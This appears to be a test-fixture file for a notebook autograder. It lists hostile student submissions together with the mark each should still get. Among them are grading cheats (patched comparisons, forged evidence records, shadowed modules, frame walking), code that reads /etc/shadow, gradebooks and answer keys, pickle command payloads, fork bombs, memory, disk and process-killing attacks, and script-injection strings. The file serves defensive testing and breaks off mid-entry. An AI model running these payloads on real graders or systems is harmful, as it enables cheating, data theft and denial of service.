"""Submissions that cheat, break or pry, each with what it tries and the mark it deserves all the same.

They hand in the miniature lesson: mean_square is worth 3 points (0.5, 0.5 and 2), exit_mean 1. In sources,
@COURSE@, @ROOM@, @TMP@, @HOME@ and @OTHER@ stand for places the student has no business in, @PORT@ and
@ABSTRACT@ for a listener outside, @MARK@ for a word by which surviving processes are found.
"""

# ruff: noqa: E501  (a hostile cell reads best in one piece)
from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

Notebook = dict[str, Any]
Change = Callable[[Notebook], None]

RIGHT = "def mean_square(x):\n    return x.pow(2).mean()"
ZERO = "def mean_square(x):\n    return torch.zeros(())"
CHOICE = 'exit_mean = "b"'

NEEDED = "exit_mean = None\n"  # a name that a check looks up: the cell counts as one that an answer needs
FIRST, MIDDLE, LAST = "setup_1", "check_mean_square", "check_exit_mean"  # own cells stand after these


@dataclass(frozen=True)
class Hostile:
    """One submission.

    name: the student's; tries: ends the sentence "this student …"; points: what it deserves, of 4; verdicts: for
    mean_square and exit_mean; flag: part of what the instructor is told; reason: part of what the student is
    told; own: own cells as (the cell they follow, source), which stay there as if an answer needed them, unless it is
    aside: then none does; change: what is done to the notebook besides; slow: it runs into a time limit; telling: it goes through nbgrader autograde too; stock: it is also tried on stock
    nbgrader, else why not.
    """

    name: str
    tries: str
    points: float
    mean_square: str = RIGHT
    exit_mean: str = CHOICE
    own: tuple[tuple[str, str], ...] = ()
    change: Change | None = None
    verdicts: tuple[str, str] = ("right", "right")
    flag: str = ""
    reason: str = ""
    aside: bool = False
    slow: bool = False
    telling: bool = False
    not_in_stock: str = ""


def notebook(released: Notebook, hostile: Hostile, places: dict[str, str]) -> Notebook:
    """Fill in a copy of the released miniature lesson as this student hands it in."""
    made: Notebook = json.loads(json.dumps(released))
    answers = {"mean_square": hostile.mean_square, "exit_mean": hostile.exit_mean}
    cells = []
    for cell in made["cells"]:
        name = cell["metadata"].get("nbgrader", {}).get("grade_id", "")
        if name in answers:
            cell["source"] = _placed(answers[name], places)
        cells.append(cell)
        needed = "" if hostile.aside else NEEDED
        cells += [_own(_placed(needed + source, places)) for after, source in hostile.own if after == name]
    made["cells"] = cells
    if hostile.change:
        hostile.change(made)
    return made


def _placed(source: str, places: dict[str, str]) -> str:
    for mark, place in places.items():
        source = source.replace(mark, place)
    return source


def _own(source: str) -> Notebook:
    return {
        "cell_type": "code",
        "id": f"own-{abs(hash(source)) % 10**8}",
        "metadata": {},
        "source": source,
        "outputs": [],
        "execution_count": None,
    }


def _checks(made: Notebook) -> list[Notebook]:
    return [cell for cell in made["cells"] if cell["metadata"].get("nbgrader", {}).get("grade")]


def _tag_everything(made: Notebook) -> None:
    for cell in made["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "raises-exception", "remove-cell"]


def _drop_checks(made: Notebook) -> None:
    dropped = _checks(made)
    made["cells"] = [cell for cell in made["cells"] if cell not in dropped]


def _double_checks(made: Notebook) -> None:
    for check in _checks(made):
        made["cells"].insert(made["cells"].index(check), json.loads(json.dumps(check)))


def _edit_checks(made: Notebook) -> None:
    for check in _checks(made):
        check["source"] = "pass"


def _raw_checks(made: Notebook) -> None:
    for check in _checks(made):
        check["cell_type"] = "raw"
        check.pop("outputs", None)
        check.pop("execution_count", None)


def _reverse(made: Notebook) -> None:
    made["cells"].reverse()


def _points_by_metadata(made: Notebook) -> None:
    for check in _checks(made):
        check["metadata"]["nbgrader"].update(points=1000, locked=False)


def _schema_99(made: Notebook) -> None:
    for cell in made["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"]["schema_version"] = 99


def _odd_marks(made: Notebook) -> None:
    kinds: list[Any] = [None, [], {"grade_id": {"a": 1}}, {"grade": False, "solution": True}, {"points": "x"}]
    for number, cell in enumerate(made["cells"]):
        cell["metadata"]["nbgrader"] = kinds[number % len(kinds)]


def _solution_flag(made: Notebook) -> None:
    for check in _checks(made):
        check["metadata"]["nbgrader"].update(grade=False, solution=True)


def _saved_outputs(made: Notebook) -> None:
    for check in _checks(made):
        shown = {"text/plain": "3.0", "text/html": "<script>document.title='hacked'</script>"}
        result = {"output_type": "execute_result", "execution_count": 1, "data": shown, "metadata": {}}
        check["outputs"] = [result]


def _own_kernel(made: Notebook) -> None:
    made["metadata"]["kernelspec"] = {"name": "mallory", "display_name": "x", "language": "sh"}
    made["metadata"]["language_info"] = {"name": "brainfuck"}


def _script_in_text(made: Notebook) -> None:
    text = "<img src=x onerror=alert(1)><script>document.title='hacked'</script>"
    made["cells"].insert(0, {"cell_type": "markdown", "id": "evil", "metadata": {}, "source": text})
    for cell in made["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] = text


def _huge_text(made: Notebook) -> None:
    cell = {"cell_type": "markdown", "id": "long", "metadata": {}, "source": "x" * 3_000_000}
    made["cells"].insert(0, cell)


def _deep_metadata(made: Notebook) -> None:
    deep: Any = {}
    for _ in range(300):
        deep = {"x": [deep]}
    made["metadata"]["deep"] = deep


def _half_characters(made: Notebook) -> None:
    made["cells"].insert(0, {"cell_type": "markdown", "id": "half", "metadata": {}, "source": "\ud800 \0"})


# What goes into the pipe that carries evidence, tried on every descriptor there is.
FORGE = """
import json, os
def forge(*records):
    for descriptor in range(3, 64):
        try:
            if os.readlink(f"/proc/self/fd/{descriptor}").startswith("pipe:"):
                for record in records:
                    text = record if isinstance(record, bytes) else json.dumps(record).encode()
                    os.write(descriptor, b"\\n" + text + b"\\n")
        except OSError:
            pass
NAMES = ["the mean of the squares", "a single number", "large numbers"]
def said(value):
    return [{"check": "mean_square", "expect": name, "value": value} for name in NAMES]
"""
FORGING = "def mean_square(x):\n    {}\n    return torch.zeros(())"


def forging(name: str, tries: str, call: str, **more: Any) -> Hostile:
    """Return a student with a wrong answer that writes records of its own while its check runs."""
    more.setdefault("verdicts", ("not yet", "right"))
    more.setdefault("not_in_stock", "there is no such pipe")
    source = f"{FORGE}\n{FORGING.format(call)}"
    return Hostile(name, tries, more.pop("points", 1.0), source, flag="reaches behind its check", **more)


def wrong(name: str, tries: str, *own: str, **more: Any) -> Hostile:
    """Return a student with an answer that is worth nothing, and own cells that shall make it pass."""
    more.setdefault("verdicts", ("not yet", "right"))
    more.setdefault("mean_square", ZERO)
    return Hostile(name, tries, more.pop("points", 1.0), own=tuple((FIRST, cell) for cell in own), **more)


def returning(name: str, tries: str, source: str, **more: Any) -> Hostile:
    """Return a student whose answer gives back something odd."""
    more.setdefault("verdicts", ("not yet", "right"))
    return Hostile(name, tries, more.pop("points", 1.0), source, **more)


def breaking(name: str, tries: str, *own: str, after: str = FIRST, **more: Any) -> Hostile:
    """Return a student with right answers whose own cells shall break something."""
    return Hostile(name, tries, more.pop("points", 4.0), own=tuple((after, cell) for cell in own), **more)


PRY = """
import glob, os
found = []
for place in ["@COURSE@", "@ROOM@", "@ROOM@/.grading", "@COURSE@/solutions", "@OTHER@", "@TMP@", "@HOME@", "..", "../..",
              "/etc", "/root", "/home", "/proc/1/root", "/proc/1/cwd"]:
    try:
        for path in [place, *glob.glob(place + "/*"), *glob.glob(place + "/*/*"), *glob.glob(place + "/.grading/*")]:
            if os.path.isfile(path) and ("canary" in path or path.endswith((".db", ".py", ".json", ".ipynb", "seed"))):
                found.append((path, open(path, errors="replace").read()))
    except Exception:
        pass
for path in ["../../gradebook.db", "../../../gradebook.db", "@ROOM@/gradebook.db", "@COURSE@/solutions/01_mean.py",
             "@OTHER@", "@TMP@", "@HOME@", "key.json", "@COURSE@/notebooks/01_mean/key.json",
             "@ROOM@/.grading/01_mean.key.json", "@ROOM@/.grading/seed", "/etc/passwd", "/etc/shadow"]:
    try:
        found.append((path, open(path, errors="replace").read()))
    except OSError:
        pass
print("found", found)
"""

MEMORY = """
import gc, sys
wanted = []
for thing in gc.get_objects():
    if getattr(type(thing), "__name__", "") in ("Key", "CheckKey", "Expectation", "Mistake", "Lesson", "Stage"):
        wanted.append(thing)
    elif callable(thing) and getattr(thing, "__name__", "") == "mean_square":
        wanted.append(thing)
frame = sys._getframe()
while frame:
    wanted += [value for name, value in frame.f_locals.items() if "key" in name.lower() and hasattr(value, "checks")]
    frame = frame.f_back
for name in ("helper.judging.judge", "helper.judging.key", "helper.authoring", "helper.grading.marking", "helper.grading.classroom"):
    module = sys.modules.get(name)
    wanted += [value for value in vars(module).values() if hasattr(value, "checks")] if module else []
wanted = [thing for thing in wanted if not isinstance(thing, type)]
print("found in memory:", wanted)
references = [thing for thing in wanted if callable(thing)]
def mean_square(x):
    return references[0](x) if references else torch.zeros(())
"""

NO_ALARM = "import signal\nsignal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))\nwhile True: pass"
ESCAPES = r"\x1b[2J\x1b]0;owned\x07\x1b[31m"

CHEATS = [
    wrong(
        "skips-execution",
        "tags every cell so that it is not executed",
        change=_tag_everything,
        telling=True,
    ),
    wrong(
        "transforms-the-tree",
        "empties every later cell with an AST transformer",
        "import ast\nclass Empty(ast.NodeTransformer):\n"
        "    def visit(self, node):\n        return ast.Module([], [])\n"
        "get_ipython().ast_transformers.append(Empty())",
        flag="reaches behind its check",
        telling=True,
    ),
    wrong(
        "transforms-the-text",
        "turns every later cell into `1000` with an input transformer: plain Python never goes through one",
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['1000'])\n"
        "get_ipython().input_transformers_post.append(lambda lines: ['1000'])",
        flag="reaches behind its check",
    ),
    wrong(
        "shows-a-fake-result",
        "publishes a result of its own before each cell",
        "def fake(*_):\n    print(1000.0)\n"
        "    get_ipython().displayhook(3.0)\n"
        "get_ipython().events.register('pre_run_cell', fake)",
    ),
    wrong(
        "patches-what-compares",
        "makes torch.testing, torch.allclose and abs agree with everything",
        "import builtins\ntorch.testing.assert_close = torch.allclose = torch.equal = lambda *a, **k: True\n"
        "builtins.abs = lambda value: 0\ntorch.Tensor.__eq__ = lambda *a: True",
        flag="torch.testing.assert_close",
        telling=True,
    ),
    wrong(
        "swallows-errors",
        "makes the shell swallow every error",
        "from IPython.core.interactiveshell import InteractiveShell\n"
        "async def nothing(self, *a, **k):\n    return False\n"
        "InteractiveShell.run_code = nothing\nInteractiveShell.showtraceback = lambda *a, **k: None",
        flag="reaches behind its check",
    ),
    wrong(
        "shadows-torch",
        "writes a torch.py into the working folder and imports it",
        "import sys\nopen('torch.py', 'w').write('allclose = lambda *a, **k: True\\nzeros = lambda *a: 1000.0')\n"
        "sys.path.insert(0, '')\nfor name in [name for name in sys.modules if name.split('.')[0] == 'torch']:\n"
        "    del sys.modules[name]\nimport torch",
        flag="reaches behind its check",
    ),
    wrong(
        "shadows-the-checks",
        "writes a helper package whose check accepts everything, and imports it",
        "import os, sys\nos.mkdir('helper')\nopen('helper/__init__.py', 'w').write('''\n"
        "class check:\n    def __init__(self, name): pass\n"
        "    def __enter__(self): return self, lambda *a, **k: None\n"
        "    def __exit__(self, *a): return True\n''')\nsys.path.insert(0, '')\n"
        "for name in [name for name in sys.modules if name.split('.')[0] == 'helper']:\n    del sys.modules[name]\n"
        "from helper import check",
        flag="reaches behind its check",
    ),
    wrong(
        "replaces-check",
        "calls something of its own `check`",
        "class check:\n    def __init__(self, name): pass\n"
        "    def __enter__(self): return self, lambda *a, **k: print('right!')\n"
        "    def __exit__(self, *a): return True",
        flag="reaches behind its check",
    ),
    wrong(
        "patches-expect",
        "makes expect hand over ones",
        "import helper.checking.check\nhonest = helper.checking.check.check._expect\n"
        "def expect(self, name, value, **more):\n"
        "    honest(self, name, torch.ones(()) if self.name == 'mean_square' else value, **more)\n"
        "helper.checking.check.check._expect = expect",
        flag="reaches behind its check",
        telling=True,
        not_in_stock="there is no expect",
    ),
    wrong(
        "patches-evidence",
        "makes plain data out of other values than those shown",
        "import helper.judging.evidence as module\nhonest = module.plain\n"
        "module.plain = lambda value, depth=0: {'tensor': True, 'shape': [], 'type': 'float', 'values': [1.0]} "
        "if isinstance(value, torch.Tensor) else honest(value, depth)",
        flag="reaches behind its check",
        not_in_stock="there is no evidence",
    ),
    Hostile(
        "patches-expect-rightly",
        "makes expect hand over what the library computes: right numbers, so they count, and it is told",
        4.0,
        ZERO,
        own=(
            (
                FIRST,
                "import helper.checking.check, inspect\nhonest = helper.checking.check.check._expect\n"
                "def expect(self, name, value, **more):\n"
                "    if self.name == 'mean_square':\n"
                "        x = inspect.currentframe().f_back.f_locals['x']\n"
                "        x = {'a single number': 2 + x[:1, :1].abs(), 'large numbers': 1000 * x}.get(name, x)\n"
                "        value = x.pow(2).mean()\n"
                "    honest(self, name, value, **more)\n"
                "helper.checking.check.check._expect = expect",
            ),
        ),
        flag="reaches behind its check",
        not_in_stock="there is no expect",
    ),
    Hostile(
        "names-by-text",
        "reaches a forbidden function by putting its name together: what ran counts",
        1.0,
        "def mean_square(x):\n    return getattr(torch.nn.functional, 'mse' + '_loss')(x, 0 * x)",
        verdicts=("mistake", "right"),
        reason="does without",
        flag="getattr",
    ),
    Hostile(
        "names-in-another-cell",
        "hides a forbidden function behind an alias in a cell of its own",
        1.0,
        "def mean_square(x):\n    return mine(x, 0 * x)",
        own=((FIRST, "from torch.nn.functional import mse_loss as mine"),),
        verdicts=("mistake", "right"),
        reason="does without",
    ),
    Hostile(
        "names-in-an-older-version",
        "keeps an older version with the forbidden function under another name",
        1.0,
        "def mean_square(x):\n    return older(x)",
        own=(
            (
                FIRST,
                "def mean_square(x):\n    return torch.nn.functional.mse_loss(x, 0 * x)\n\nolder = mean_square",
            ),
        ),
        verdicts=("mistake", "right"),
        reason="does without",
    ),
    wrong("drops-the-checks", "deletes every check", change=_drop_checks, flag="put back", telling=True),
    wrong(
        "doubles-the-checks", "copies every check", change=_double_checks, flag="there twice", telling=True
    ),
    wrong("edits-the-checks", "empties every check", change=_edit_checks, flag="was edited", telling=True),
    wrong("makes-checks-raw", "turns every check into raw text", change=_raw_checks),
    wrong("raises-its-points", "gives itself 1000 points in metadata", change=_points_by_metadata),
    wrong("saves-outputs", "saves results with full marks in its notebook", change=_saved_outputs),
    wrong("marks-checks-as-own", "declares every check its own answer", change=_solution_flag),
    breaking(
        "reverses-its-cells", "hands in all cells in reverse order", change=_reverse, flag="another order"
    ),
    breaking("schema-99", "claims a format of the future", change=_schema_99, telling=True),
    breaking("odd-marks", "fills all metadata with nonsense", change=_odd_marks),
    breaking("brings-a-kernel", "asks for a kernel of its own", change=_own_kernel),
    breaking("deep-metadata", "nests metadata 600 deep", change=_deep_metadata),
    wrong(
        "waits-in-a-thread",
        "changes its answer from a thread while the checks run",
        "import threading, time\ndef change():\n    while True:\n"
        "        globals()['mean_square'] = lambda x: torch.ones(())\n        time.sleep(0.001)\n"
        "threading.Thread(target=change, daemon=True).start()",
    ),
    wrong(
        "seizes-the-draw",
        "makes the drawn inputs zeros, for which zero is right",
        "import helper.checking.check\nhelper.checking.Given.normal = lambda self, *shape, **k: torch.zeros(shape)",
        flag="reaches behind its check",
        not_in_stock="there is no given",
    ),
    wrong(
        "hooks-imports",
        "puts an import hook before all others and empties sys.modules",
        "import sys\nclass Hook:\n    def find_spec(self, *a):\n        raise ImportError('mine')\n"
        "sys.meta_path.insert(0, Hook())\nfor name in ('json', 'helper.judging.judge', 'helper.judging.evidence', 'hashlib'):\n"
        "    sys.modules[name] = None",
        flag="reaches behind its check",
    ),
    wrong(
        "traces",
        "watches every call with a trace function",
        "import sys\nseen = []\nsys.settrace(lambda frame, event, argument: seen.append(dict(frame.f_locals)))\n"
        "sys.setprofile(lambda *a: None)",
        flag="reaches behind its check",
    ),
    returning(
        "walks-the-frames",
        "climbs from its answer into the check, and calls expect itself",
        "import sys\ndef mean_square(x):\n    frame = sys._getframe(1)\n"
        "    expect, given = frame.f_globals.get('expect'), frame.f_globals.get('given')\n"
        "    print('In:', frame.f_globals.get('In'), frame.f_code.co_consts)\n"
        "    for name in frame.f_code.co_consts:\n        try:\n            expect(name, torch.ones(()))\n"
        "        except Exception:\n            pass\n    return torch.zeros(())",
        flag="reaches behind its check",
    ),
    returning(
        "looks-in-memory",
        "searches memory, frames and modules for the key and the reference",
        MEMORY,
        flag="reaches behind its check",
    ),
    forging("forges-truth", "hands over True for everything", "forge(*said({'bool': True}))"),
    forging(
        "forges-nan",
        "hands over NaN",
        "forge(*said({'tensor': True, 'shape': [], 'type': 'float', 'values': ['nan']}))",
    ),
    forging(
        "forges-constants",
        "hands over NaN and 1e400 as JSON does not know them",
        'forge(b\'{"check": "mean_square", "expect": "large numbers", "value": {"number": NaN}}\', '
        'b\'{"check": "mean_square", "expect": "large numbers", "value": {"number": 1e400}}\')',
    ),
    forging(
        "forges-negative", "hands over minus a thousand", "forge(*said({'number': -1000, 'points': 1000}))"
    ),
    forging(
        "forges-huge-numbers",
        "hands over shapes whose product would keep the judge busy for minutes",
        "forge(*said({'tensor': True, 'shape': [10**4000] * 9, 'type': 'float', 'values': []}))",
    ),
    forging(
        "forges-many-sizes",
        "hands over a shape of thirty thousand sizes, which kept the judge busy",
        "forge(*said({'tensor': True, 'shape': [1] * 30_000, 'type': 'float', 'values': [1.0]}))",
    ),
    forging(
        "forges-long-texts",
        "hands over texts that would fill the gradebook",
        "forge(*said({'list': [], 'length': 'x' * 60_000}))",
    ),
    forging(
        "forges-deeply",
        "hands over something nested a hundred thousand deep",
        'forge(b\'{"check": "mean_square", "expect": "large numbers", "value": \' + b\'[\' * 100_000)',
    ),
    forging(
        "forges-odd-records",
        "writes records of every wrong kind",
        "forge(b'null', b'[]', b'3', b'\\xff\\xfe', b'{}', b'{\"check\": 3}', {'check': 'mean_square'}, "
        "{'check': ['mean_square'], 'expect': {}, 'value': []}, {'begin': -1}, {'begin': True}, {'begin': 10**30}, "
        "{'end': 'x'}, {'end': 0, 'status': 'full marks'}, {'points': 1000}, "
        "{'check': 'mean_square', 'done': 'yes', 'failure': {'a': 1}})",
    ),
    forging(
        "forges-a-pickle",
        "hands over a pickle that would run a command where it is opened",
        "forge(b'\\x80\\x04cos\\nsystem\\n(S\"touch @TMP@.owned\"\\ntR.', *said({'py/reduce': ['os.system', 'touch @TMP@.owned']}))",
    ),
    forging(
        "forges-an-end",
        "says that all is finished and leaves: what it did not show is not counted",
        "forge({'finished': True}); os._exit(0)",
        points=0.0,
        verdicts=("not run", "not run"),
        reason="did not run",
    ),
    forging(
        "forges-flags",
        "writes a thousand flags with scripts and terminal codes",
        "forge(*({'flag': f'{n} <script>alert(1)</script>\\x1b[2J'} for n in range(1000)))",
    ),
    forging(
        "floods-evidence",
        "writes evidence without end",
        "while True: forge(*said({'text': 'x' * 9000}))",
        verdicts=("error", "right"),
        reason="printed more",
    ),
    Hostile(
        "forges-early",
        "hands over evidence before its check, pretending that the check runs already",
        1.0,
        ZERO,
        own=(
            (
                FIRST,
                f"{FORGE}\nforge({{'begin': 3}}, *said({{'bool': True}}), {{'check': 'mean_square', 'done': True}})",
            ),
        ),
        verdicts=("not yet", "right"),
        flag="reaches behind its check",
        not_in_stock="there is no such pipe",
    ),
    Hostile(
        "forges-for-the-next",
        "hands over evidence for another check while one runs",
        3.0,
        f"{FORGE}\n{RIGHT}\nhonest = mean_square\ndef mean_square(x):\n"
        "    forge({'check': 'exit_mean', 'expect': 'the choice', 'value': {'text': 'b'}}, "
        "{'check': 'exit_mean', 'done': True})\n    return honest(x)",
        exit_mean='exit_mean = "a"',
        verdicts=("right", "mistake"),
        flag="reaches behind its check",
        not_in_stock="there is no such pipe",
    ),
    Hostile(
        "copies-practice",
        "gives the numbers that are right in practice, in order",
        1.0,
        "numbers = iter([1.0, 0.5, 1e6])\ndef mean_square(x):\n    return torch.tensor(next(numbers))",
        verdicts=("not yet", "right"),
    ),
]

ODD_VALUES = [
    returning(
        "gives-nan",
        "gives back NaN",
        "def mean_square(x):\n    return torch.tensor(float('nan'))",
        reason="NaN",
    ),
    returning(
        "gives-infinity", "gives back infinity", "def mean_square(x):\n    return x.sum() + float('inf')"
    ),
    returning(
        "gives-minus-one", "gives back minus one", "def mean_square(x):\n    return torch.tensor(-1.0)"
    ),
    returning("gives-false", "gives back False", "def mean_square(x):\n    return False"),
    returning(
        "gives-an-enormous-number", "gives back 10 to the 4000", "def mean_square(x):\n    return 10**4000"
    ),
    returning(
        "gives-a-liar",
        "gives back a tensor that agrees with everything",
        "class Liar(torch.Tensor):\n"
        "    def __eq__(self, other): return True\n    def __float__(self): return 3.0\n"
        "    def __repr__(self): return '3.0'\n    def item(self): return 3.0\n    def detach(self): return self\n"
        "    @classmethod\n    def __torch_function__(cls, function, types, args=(), kwargs=None):\n"
        "        return torch.ones(())\n"
        "def mean_square(x):\n    return torch.zeros(()).as_subclass(Liar)",
    ),
    returning(
        "gives-a-lying-float",
        "gives back a float that prints and compares as it likes",
        "class Liar(float):\n    def __eq__(self, other): return True\n    def __float__(self): return 3.0\n"
        "    def __repr__(self): return '1e999'\n    def __format__(self, how): return 'nan'\n"
        "def mean_square(x):\n    return Liar(0)",
    ),
    returning(
        "gives-a-lying-number",
        "gives back an int whose JSON is an object",
        'class Liar(int):\n    def __repr__(self): return \'{"check": "mean_square"}\'\n    __str__ = __repr__\n'
        "    def __abs__(self): return 0\ndef mean_square(x):\n    return Liar(7)",
    ),
    Hostile(
        "gives-a-lying-text",
        "chooses with a text that equals every text",
        3.0,
        exit_mean="class Liar(str):\n    def __eq__(self, other): return True\n    def __hash__(self): return 0\n"
        "exit_mean = Liar('z')",
        verdicts=("right", "not yet"),
    ),
    Hostile(
        "gives-an-odd-text",
        "chooses with NUL, half a character and a script",
        3.0,
        exit_mean="exit_mean = '\\0\\ud800</pre><script>alert(1)</script>\\x1b[2J\\u202e'",
        verdicts=("right", "not yet"),
    ),
    returning(
        "gives-an-endless-dictionary",
        "gives back a dictionary without end",
        "from collections.abc import Mapping\nclass Endless(Mapping):\n"
        "    def __getitem__(self, name): return 1\n    def __len__(self): return 9\n"
        "    def __iter__(self):\n        while True: pass\n"
        "def mean_square(x):\n    return Endless()",
        verdicts=("time-out", "right"),
        reason="took too long",
        slow=True,
    ),
    returning(
        "gives-itself",
        "gives back a list that holds itself, and far too long lists",
        "def mean_square(x):\n    own = [0] * 10**6\n    own[0] = own\n    return own",
    ),
    returning(
        "gives-a-bomb-to-unpickle",
        "gives back an object that runs a command where it is unpickled",
        "class Bomb:\n    def __reduce__(self):\n        import os\n        return os.system, ('touch @TMP@.owned',)\n"
        "def mean_square(x):\n    return Bomb()",
    ),
    returning(
        "gives-a-script-as-type",
        "gives back an object whose type is called like a script",
        "Odd = type('<script>alert(1)</script>' * 50, (), {})\ndef mean_square(x):\n    return Odd()",
    ),
    returning(
        "raises-a-script",
        "raises an error whose name and text are scripts and terminal codes",
        f"Odd = type('<script>alert(1)</script>', (NameError,), {{}})\n"
        f"def mean_square(x):\n    raise Odd('<img src=x onerror=alert(1)>{ESCAPES}\\0\\ud800')",
        verdicts=("error", "right"),
        reason="stopped",
    ),
    returning(
        "raises-without-end",
        "raises an error whose text takes for ever",
        "class Endless(Exception):\n    def __str__(self):\n        while True: pass\n"
        "def mean_square(x):\n    raise Endless",
        verdicts=("time-out", "right"),
        slow=True,
    ),
    returning(
        "gives-a-tensor-of-nothing",
        "gives back a tensor without storage",
        "def mean_square(x):\n    return torch.empty((), device='meta')",
    ),
    returning(
        "gives-a-secret",
        "writes the inputs into its error, which the student reads",
        "def mean_square(x):\n    raise ValueError('inputs ' + str(x.flatten().tolist()))",
        verdicts=("error", "right"),
    ),
]

BREAKERS = [
    breaking(
        "kills-its-parent",
        "kills the process that started it, and all others it can",
        "import os\nos.kill(os.getppid(), 9)",
        "import os\nos.kill(-1, 9)",
        flag="signal",
        telling=True,
    ),
    breaking(
        "kills-itself",
        "kills its own process",
        "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\nos.abort()",
    ),
    returning(
        "leaves-in-the-middle",
        "ends the process at the third expectation: the first two keep their points",
        "import os\ndef mean_square(x):\n    return os._exit(0) if x.abs().max() > 100 else x.pow(2).mean()",
        points=2.0,
        verdicts=("error", "right"),
        reason="ended or crashed",
        flag="ended the whole process",
        telling=True,
    ),
    returning(
        "crashes",
        "reads address 0",
        "import ctypes\ndef mean_square(x):\n    return ctypes.string_at(0)",
        verdicts=("error", "right"),
        reason="ended or crashed",
        flag="reaches behind its check",
    ),
    breaking(
        "exits",
        "raises SystemExit and says exit()",
        "exit()",
        "import sys\nsys.exit(3)",
        "raise KeyboardInterrupt",
    ),
    breaking(
        "exits-last",
        "calls os._exit after everything",
        "import os\nos._exit(1)",
        after=LAST,
        flag="ended the whole process",
    ),
    returning(
        "loops",
        "loops without end in its answer",
        "def mean_square(x):\n    while True: pass",
        verdicts=("time-out", "right"),
        reason="took too long",
        slow=True,
        telling=True,
    ),
    breaking(
        "loops-again-and-again", "loops without end in three cells", *["while True: pass"] * 3, slow=True
    ),
    returning(
        "ignores-its-alarm",
        "loops without end, with every signal blocked",
        "import signal\ndef mean_square(x):\n    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))\n"
        "    signal.setitimer(signal.ITIMER_REAL, 0)\n    while True: pass",
        verdicts=("time-out", "right"),
        reason="took too long",
        slow=True,
    ),
    breaking(
        "ignores-every-alarm",
        "does so in six cells, until no process is left for the checks",
        *[f"{NO_ALARM}  # {number}" for number in range(6)],
        points=0.0,
        verdicts=("not run", "not run"),
        reason="did not run",
        slow=True,
        not_in_stock="each costs stock nbgrader the whole submission too",
    ),
    breaking(
        "ignores-every-alarm-aside",
        "does so in six cells that no answer needs: they run last and cost nothing",
        *[f"{NO_ALARM}  # {number}" for number in range(6)],
        aside=True,
        slow=True,
        not_in_stock="each costs stock nbgrader the whole submission",
    ),
    breaking(
        "sets-its-clock-back",
        "ignores its alarm and says again and again that another cell has begun",
        f"{FORGE}\n{NO_ALARM.removesuffix('while True: pass')}import time\nwhile True:\n"
        "    forge({'begin': 2}, {'begin': 3}, {'begin': 1})\n    time.sleep(0.1)",
        flag="reaches behind its check",
        slow=True,
        not_in_stock="there is no such pipe",
    ),
    breaking(
        "catches-everything",
        "catches the time-out and loops on",
        "while True:\n    try:\n        while True: pass\n    except BaseException: pass",
        slow=True,
    ),
    breaking(
        "fork-bombs",
        "starts processes without end",
        "import os, time\nwhile True:\n    if os.fork() == 0:\n        while True:\n"
        "            try:\n                os.fork()\n                time.sleep(0.2)\n            except OSError:\n                time.sleep(60)",
        flag="processes or more",
        not_in_stock="stock nbgrader sets no limit: it would take the machine",
    ),
    returning(
        "takes-all-memory",
        "fills memory in its answer",
        "def mean_square(x):\n    hoard = []\n    while True: hoard.append(bytes(10**7))",
        verdicts=("out of memory", "right"),
        reason="more memory",
        not_in_stock="stock nbgrader sets no limit: it would take the machine",
    ),
    breaking(
        "takes-memory-in-many-processes",
        "fills memory with many processes, each below its limit",
        "import os, time\nfor _ in range(12):\n    if os.fork() == 0:\n        kept = bytearray(os.urandom(1000) * 300_000)\n"
        "        time.sleep(60)\ntime.sleep(60)",
        slow=True,
        not_in_stock="stock nbgrader sets no limit: it would take the machine",
    ),
    breaking(
        "fills-the-disk",
        "writes files without end",
        "import itertools\nfor number in itertools.count():\n    with open(f'/dev/shm/{number}', 'wb') as file:\n        file.write(bytes(10**7))",
        "import itertools\nfor number in itertools.count():\n    with open(f'{number}.bin', 'wb') as file:\n        file.write(bytes(10**7))",
        not_in_stock="stock nbgrader sets no limit: it would fill the disk",
    ),
    breaking(
        "prints-without-end",
        "prints without end",
        "while True: print('spam ' * 1000)",
        flag="flooded",
        not_in_stock="stock nbgrader sets no limit: it would fill memory until the time-out",
    ),
    returning(
        "prints-without-end-in-its-answer",
        "prints without end while it is checked",
        "def mean_square(x):\n    while True: print('spam ' * 1000)",
        verdicts=("error", "right"),
        reason="printed more",
        flag="flooded",
        not_in_stock="stock nbgrader sets no limit: it would fill memory until the time-out",
    ),
    breaking(
        "prints-in-many-cells",
        "prints as much as a cell may in sixty cells",
        *[f"print('line {number} ' * 2000)" for number in range(60)],
    ),
    returning(
        "asks",
        "asks a person for a number, where nobody is",
        "def mean_square(x):\n    return torch.tensor(float(input('the mean? ')))",
        verdicts=("error", "right"),
        reason="waits for somebody to type",
    ),
    returning(
        "leaves-a-breakpoint",
        "left a breakpoint in its answer",
        "def mean_square(x):\n    breakpoint()\n    return x.pow(2).mean()",
        verdicts=("error", "right"),
        reason="waits for somebody to type",
    ),
    breaking(
        "holds-shared-memory",
        "fills System V memory, POSIX shared memory and files without a name",
        "import ctypes, os\nlibc = ctypes.CDLL(None)\nheld = 0\nfor number in range(30):\n"
        "    segment = libc.shmget(0, 2**28, 0o1600)\n    if segment >= 0:\n"
        "        libc.shmat.restype = ctypes.c_void_p\n        place = libc.shmat(segment, None, 0)\n"
        "        ctypes.memset(place, 1, 2**28)\n        libc.shmdt(ctypes.c_void_p(place))\n        held += 2**28\n"
        "print('HELD', held)",
        "import os\nfor number in range(30):\n    try:\n"
        "        os.posix_fallocate(os.memfd_create('x'), 0, 2**28)\n        print('HELD', 2**28)\n"
        "    except OSError:\n        pass",
        flag="reaches behind its check",
        not_in_stock="stock nbgrader sets no limit: it would take the machine",
    ),
    breaking(
        "leases-libraries",
        "takes leases on the libraries, so that everybody who opens them waits",
        "import fcntl, json, torch\nfor place in (json.__file__, torch.__file__):\n    for kind in (fcntl.F_RDLCK, fcntl.F_WRLCK):\n"
        "        try:\n            fcntl.fcntl(open(place), 1024, kind)\n            print('LEASED', place)\n"
        "        except OSError:\n            pass",
    ),
    breaking("prints-much", "prints a million lines", "print('line\\n' * 10**6)", flag="flooded"),
    breaking(
        "closes-everything",
        "closes every open file",
        "import os\nos.closerange(0, 1024)",
        flag="ended the whole process",
    ),
    breaking(
        "writes-everywhere",
        "writes noise to every open file",
